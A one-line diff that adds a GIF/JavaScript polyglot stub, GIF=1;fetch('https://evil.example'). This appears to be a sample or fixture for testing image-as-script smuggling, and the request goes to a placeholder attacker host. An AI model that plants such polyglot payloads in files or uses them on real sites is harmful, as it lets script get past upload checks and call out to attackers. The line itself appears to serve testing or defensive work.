@@ -1,0 +1,1 @@
+GIF=1;fetch('https://evil.example')
